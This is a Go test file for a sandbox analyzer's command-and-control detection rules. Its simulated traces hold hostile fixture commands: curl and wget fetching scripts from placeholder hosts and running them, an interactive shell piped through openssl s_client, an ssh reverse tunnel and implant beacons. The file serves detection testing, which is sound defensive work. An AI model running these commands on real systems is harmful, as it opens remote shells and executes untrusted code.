package analyzer

import (
	"testing"

	"github.com/sandscan/sandscan/trace"
)

func TestC2Rules(t *testing.T) {
	runRuleCases(t, []ruleCase{
		{name: "curl -O then chmod +x and run", rule: "c2.ingress-transfer", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "-sO", "https://raw.example/a/atomic.sh").spawn(1, 11, "/bin/chmod", "chmod", "+x", "atomic.sh").spawn(1, 12, "/bin/bash", "bash", "atomic.sh").done()},
		{name: "busybox wget -O then sh", rule: "c2.ingress-transfer", want: true,
			run: sh("wget -O /tmp/p.sh http://dl.example/p.sh && sh /tmp/p.sh").spawn(1, 10, "/bin/busybox", "wget", "-O", "/tmp/p.sh", "http://dl.example/p.sh").spawn(1, 11, "/bin/busybox", "sh", "/tmp/p.sh").done()},
		{name: "whois as a transfer channel", rule: "c2.ingress-transfer", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/whois", "whois", "-h", "localhost", "-p", "8443", "hello").done()},
		{name: "benign: loopback health probe with busybox wget", rule: "c2.ingress-transfer", want: false,
			run: sh("x").spawn(1, 10, "/bin/busybox", "wget", "-q", "-O", "-", "http://127.0.0.1:8080/healthz").done()},
		{name: "benign: config downloaded, not executed", rule: "c2.ingress-transfer", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "-o", "/etc/app/conf.json", "https://cfg.example/conf.json").done()},

		{name: "forged user agent", rule: "c2.user-agent", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "-s", "-A", "HttpBrowser/1.0", "-m3", "www.google.com").done()},
		{name: "sinkhole sees a browser UA from curl", rule: "c2.user-agent", want: true,
			run: sh("x").conn(trace.Conn{Proto: "tcp", DstIP: "10.99.0.1", DstPort: 80, App: "http", Comm: "curl", HTTP: &trace.HTTPInfo{Method: "GET", Path: "/", UserAgent: "Mozilla/5.0"}}).done()},
		{name: "benign: plain curl", rule: "c2.user-agent", want: false,
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "-s", "http://127.0.0.1/").done()},

		{name: "beacon every 2 s", rule: "c2.beaconing", want: true, run: func() *trace.Run {
			b := newRun("/implant")
			for i := 0; i < 6; i++ {
				b.t = b.t.Add(2 * 1e9)
				b.connect(1, "198.51.100.7", 443, 0)
			}
			return b.done()
		}()},

		{name: "telnet to 8081", rule: "c2.non-standard-port", want: true,
			run: sh("echo quit | telnet google.com 8081").spawn(1, 10, "/usr/bin/telnet", "telnet", "google.com", "8081").done()},
		{name: "connect to 4444", rule: "c2.non-standard-port", want: true,
			run: newRun("/x").connect(1, "198.51.100.23", 4444, 101).done()},
		{name: "benign: web server and loopback clients", rule: "c2.non-standard-port", want: false,
			run: sh("x").add2(func(b *rb) {
				b.add(trace.Event{Kind: trace.KindBind, PID: 1, Addr: &trace.SockAddr{Family: trace.FamilyInet, IP: "0.0.0.0", Port: 8080}})
			}).connect(1, "127.0.0.1", 8080, 0).connect(1, "::1", 6379, 0).connect(1, "10.0.0.9", 443, 0).done()},

		{name: "ICMP socket from a non-ping program", rule: "c2.raw-protocol", want: true,
			run: newRun("/implant").socket(1, 2, sockRaw, ipprotoICMP, 1).done()},
		{name: "benign: ping's ICMP socket", rule: "c2.raw-protocol", want: false,
			run: sh("ping -c1 x").spawn(1, 10, "/bin/ping", "ping", "-c", "1", "10.0.0.1").socket(10, 2, sockDgram, ipprotoICMP, 1).done()},

		{name: "http_proxy to loopback", rule: "c2.proxy", want: true, tech: "T1090.001",
			run: sh("export http_proxy=127.0.0.1:3128; curl http://google.com").withEnv("http_proxy=127.0.0.1:3128").spawn(1, 10, "/usr/bin/curl", "curl", "http://google.com").connect(10, "127.0.0.1", 3128, 111).done()},
		{name: "benign: proxy from the image config", rule: "c2.proxy", want: false, run: func() *trace.Run {
			b := newRun("/app").withEnv("HTTPS_PROXY=http://proxy.corp:3128")
			b.run.Image.Env = []string{"HTTPS_PROXY=http://proxy.corp:3128"}
			return b.spawn(1, 10, "/usr/bin/curl", "curl", "https://api.example").done()
		}()},

		{name: "ssh -R tunnel", rule: "c2.tunnel", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/ssh", "ssh", "-R", "9000:localhost:22", "u@198.51.100.1").done()},
		{name: "openssl s_client pipeline shell", rule: "c2.encrypted-shell", want: true,
			run: sh("x").spawn(1, 10, "/bin/sh", "sh", "-i").spawn(1, 11, "/usr/bin/openssl", "openssl", "s_client", "-quiet", "-connect", "198.51.100.1:443").done()},
		{name: "paste site fetched", rule: "c2.web-service", want: true,
			run: sh("x").spawn(1, 10, "/usr/bin/curl", "curl", "https://pastebin.com/raw/abc").done()},
		{name: "fallback to a literal address after failed DNS", rule: "c2.fallback", want: true,
			run: newRun("/miner").connect(1, "10.0.0.2", 53, 101).connect(1, "203.0.113.5", 3333, 101).done()},
		{name: "benign: resolved then connected", rule: "c2.fallback", want: false,
			run: newRun("/app").connect(1, "10.0.0.2", 53, 0).connect(1, "93.184.216.34", 443, 0).done()},
	})
}
